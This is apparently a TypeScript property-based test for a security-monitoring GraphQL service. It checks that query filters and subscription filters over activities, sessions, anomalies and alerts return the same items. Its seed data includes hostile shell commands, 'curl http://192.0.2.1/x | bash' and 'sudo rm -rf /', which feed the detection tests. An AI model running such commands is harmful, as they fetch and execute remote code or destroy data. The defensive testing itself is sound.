import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { data, subscribe, trackAll } from '../harness/client.ts';
import type { Service } from '../harness/service.ts';
import { startService, testClock } from '../harness/service.ts';

/**
 * A filter is a condition in SQL for queries and a test in memory for subscriptions. Here random filters are asked both
 * ways: a subscription that replays the log from its start must deliver exactly what the query lists.
 */

const now = '2026-11-10T12:00:00Z';
let service: Service;
let start: string;

const users = ['ada', 'Ada', 'a%a', 'a_a', 'aXa', String.raw`a\a`, 'é', '🦆', '%'];
const addresses = [null, '203.0.113.1', '203.0.113.10', '2001:db8::1'];
const texts = ['/', '/a%b', '/a_b', String.raw`C:\a`, 'curl http://192.0.2.1/x | bash', 'sudo rm -rf /', 'ls', '🦆'];
const times = [
  '2026-11-10T11:59:59.999999Z',
  '2026-11-10T11:45:00Z',
  '2026-11-10T11:44:59.999999Z',
  '2026-11-09T12:00:00Z',
  '2026-10-01T03:00:00Z',
];
const agents = [
  null,
  'curl/8',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/130',
  'Mozilla/5.0 (Linux; Android 14) Mobile Chrome/130',
];

beforeAll(async () => {
  service = await startService({ clock: testClock(now) });
  start = (await data(service, '{ system { logHead } }')).system.logHead;
  const at = <T>(list: readonly T[], place: number) => list[place % list.length]!;
  const detail = (place: number) => {
    const text = at(texts, Math.floor(place / 4));
    return [
      { terminal: { command: text } },
      { web: { page: text } },
      { auth: { event: at(['LOGIN', 'FAILURE'], place), host: text } },
      { access: { change: 'PERMISSION', target: text } },
      { desktop: { action: 'MOVE' } },
    ][place % 5]!;
  };
  const { userErrors } = await trackAll(
    service,
    Array.from({ length: 150 }, (_, place) => ({
      user: at(users, place),
      session: place % 3 === 0 ? null : `${at(users, place)}-${place % 4}`,
      sourceIp: at(addresses, place),
      userAgent: at(agents, Math.floor(place / 3)),
      occurredAt: at(times, Math.floor(place / 2)),
      outcome: at(['SUCCESS', 'FAILURE', 'DENIED', 'UNKNOWN'], place),
      detail: detail(place),
    })),
  );
  expect(userErrors).toEqual([]);
  const { alerts, anomalies } = await data(service, '{ alerts { nodes { id } } anomalies { nodes { id } } }');
  for (const { id } of alerts.nodes.slice(0, 3))
    await data(service, 'mutation($id: ID!) { resolveAlert(input: { id: $id }) { userErrors { code } } }', { id });
  for (const { id } of anomalies.nodes.slice(0, 3))
    await data(service, 'mutation($id: ID!) { resolveAnomaly(input: { id: $id, resolution: BENIGN }) { userErrors { code } } }', { id });
  await trackAll(service, [{ user: 'sentinel', session: 'sentinel', detail: { terminal: { command: 'curl http://192.0.2.1/x | bash' } } }]);
});
afterAll(() => service.close());

const maybe = <T>(value: fc.Arbitrary<T>) => fc.option(value, { freq: 5 });
const some = <T extends Record<string, fc.Arbitrary<unknown>>>(tests: T) => fc.record(tests, { requiredKeys: [] });
const list = <T>(value: fc.Arbitrary<T>) => maybe(fc.array(value, { maxLength: 3 }));

const pieces = fc.constantFrom(...users, ...texts, '203.0.113.1', '203.', 'a', '_', '\\', '', '?', '-1', 'A', ':');
const text = (values: readonly (string | null)[] = []) => {
  const word = fc.oneof(pieces, fc.constantFrom(...values.filter((value) => value !== null), 'a'));
  return some({
    eq: maybe(word),
    neq: maybe(word),
    in: list(word),
    nin: list(word),
    startsWith: maybe(word),
    contains: maybe(word),
    null: maybe(fc.boolean()),
  });
};
const number = (max: number) => {
  const figure = fc.oneof(fc.integer({ min: -1, max }), fc.constantFrom(-2_147_483_648, 32_767, 32_768, 2_147_483_647));
  return some({ eq: maybe(fc.integer({ min: 0, max })), gt: maybe(figure), gte: maybe(figure), lt: maybe(figure), lte: maybe(figure) });
};
const instant = () => {
  const moment = fc.constantFrom(
    ...times,
    now,
    'P1D',
    'PT15M',
    'PT900S',
    'P6W',
    'PT0S',
    '9999-12-31T23:59:59.999999Z',
    '2026-11-10T12:45:00.000001+01:00',
  );
  return some({ gte: maybe(moment), gt: maybe(moment), lte: maybe(moment), lt: maybe(moment) });
};
const choice = (...values: string[]) => {
  const one = fc.constantFrom(...values);
  return some({ eq: maybe(one), neq: maybe(one), in: list(one), nin: list(one) });
};
const levels = choice('LOW', 'MEDIUM', 'HIGH', 'CRITICAL');

/** The fields of each filter; every one of them, so that a new field has to be added here. */
const nouns = {
  Activity: {
    list: 'activities',
    stream: 'activityRecorded',
    fields: {
      type: choice('COMMAND', 'SUDO_COMMAND', 'PAGE_VIEW', 'LOGIN', 'AUTH_FAILURE', 'PERMISSION_CHANGE'),
      user: text(),
      session: text(['ada-1', 'ada-2']),
      sourceIp: text(addresses),
      outcome: choice('SUCCESS', 'FAILURE', 'DENIED', 'UNKNOWN'),
      riskScore: number(100),
      riskLevel: levels,
      occurredAt: instant(),
      recordedAt: instant(),
      text: text(),
    },
  },
  Session: {
    list: 'sessions',
    stream: 'sessionChanged',
    fields: {
      externalId: text(['ada-1']),
      user: text(),
      status: choice('ACTIVE', 'IDLE', 'WARNING', 'EXPIRED', 'ENDED', 'TERMINATED'),
      kind: choice('WEB', 'SSH', 'PTY', 'DESKTOP', 'API'),
      deviceType: choice('DESKTOP', 'MOBILE', 'TABLET', 'BOT', 'UNKNOWN'),
      sourceIp: text(addresses),
      startedAt: instant(),
      lastActivityAt: instant(),
      activityCount: number(20),
      riskScore: number(100),
      integrityScore: number(100),
    },
  },
  Anomaly: {
    list: 'anomalies',
    stream: 'anomalyDetected',
    fields: {
      type: choice('UNUSUAL_TIME', 'NEW_LOCATION', 'SUSPICIOUS_COMMAND', 'AFTER_HOURS', 'FAILED_LOGIN_BURST', 'CONCURRENT_SESSIONS'),
      detector: text(['suspicious-command', 'failed-login-burst-by-user']),
      reference: text(['ANO-', 'ANO-20261110114500-']),
      subject: text(['user:', 'user:ada', 'address:']),
      user: text(),
      score: number(100),
      detectedAt: instant(),
      resolved: some({ eq: maybe(fc.boolean()) }),
      session: text(),
      resolvedAt: instant(),
      resolution: choice('TRUE_POSITIVE', 'FALSE_POSITIVE', 'BENIGN', 'DUPLICATE'),
    },
  },
  Alert: {
    list: 'alerts',
    stream: 'alertChanged',
    fields: {
      status: choice('OPEN', 'ACKNOWLEDGED', 'RESOLVED', 'DISMISSED'),
      severity: levels,
      type: choice('SUSPICIOUS_COMMAND', 'FAILED_LOGIN_BURST', 'CRITICAL_RISK'),
      subject: text(['user:', 'user:ada', 'address:']),
      user: text(),
      count: number(20),
      openedAt: instant(),
      lastSeenAt: instant(),
    },
  },
};
type Noun = keyof typeof nouns;

/** Filters of a noun, `and` and `or` nested up to three deep. */
function filterOf(noun: Noun): fc.Arbitrary<object> {
  const fields: Record<string, fc.Arbitrary<unknown>> = nouns[noun].fields;
  const flat = fc
    .subarray(Object.keys(fields), { minLength: 0, maxLength: 2 })
    .chain((names) => fc.record(Object.fromEntries(names.map((name) => [name, maybe(fields[name]!)]))));
  return fc.letrec<{ filter: object }>((tie) => ({
    filter: fc.oneof(
      { depthSize: 'small', maxDepth: 3, withCrossShrink: true },
      flat,
      fc.tuple(flat, fc.array(tie('filter'), { maxLength: 3 })).map(([own, and]) => ({ ...own, and })),
      fc.tuple(flat, fc.array(tie('filter'), { maxLength: 3 })).map(([own, or]) => ({ ...own, or })),
    ),
  })).filter;
}

async function listed(noun: Noun, filter: object): Promise<string[]> {
  const { items } = await data(
    service,
    `query($filter: ${noun}Filter) { items: ${nouns[noun].list}(filter: $filter, first: 200) { nodes { id } pageInfo { hasNextPage } } }`,
    { filter },
  );
  expect(items.pageInfo.hasNextPage).toBe(false);
  return items.nodes.map(({ id }: { id: string }) => id);
}

async function streamed(noun: Noun, filter: object, until: string): Promise<string[]> {
  const stream = await subscribe(
    service,
    `subscription($filter: ${noun}Filter, $start: Cursor) { event: ${nouns[noun].stream}(filter: $filter, after: $start) {
      ... on ${noun}Event { item: ${noun.toLowerCase()} { id } } } }`,
    { filter, start },
  );
  const ids = [];
  do ids.push((await stream.next()).event.item.id);
  while (ids.at(-1) !== until);
  await stream.close();
  return ids;
}

describe.each(Object.keys(nouns) as Noun[])('%sFilter', (noun) => {
  it('has the fields that are tried here', async () => {
    const { __type } = await data(service, `{ __type(name: "${noun}Filter") { inputFields { name } } }`);
    const names = __type.inputFields.map((field: { name: string }) => field.name);
    expect(names.toSorted()).toEqual([...Object.keys(nouns[noun].fields), 'and', 'or'].toSorted());
  });

  it('means the same for a query and a subscription', async () => {
    const sentinel = { user: { eq: 'sentinel' } };
    const [until = ''] = await listed(noun, sentinel);
    await fc.assert(
      fc.asyncProperty(filterOf(noun), async (filter) => {
        const wanted = { or: [filter, sentinel] }; // the sentinel is the last item of the log, so the replay has an end
        const fromLog = new Set(await streamed(noun, wanted, until));
        const fromTable = new Set(await listed(noun, wanted));
        expect([[...fromLog].filter((id) => !fromTable.has(id)), [...fromTable].filter((id) => !fromLog.has(id))]).toEqual([[], []]);
      }),
      { numRuns: 30 },
    );
  });
});
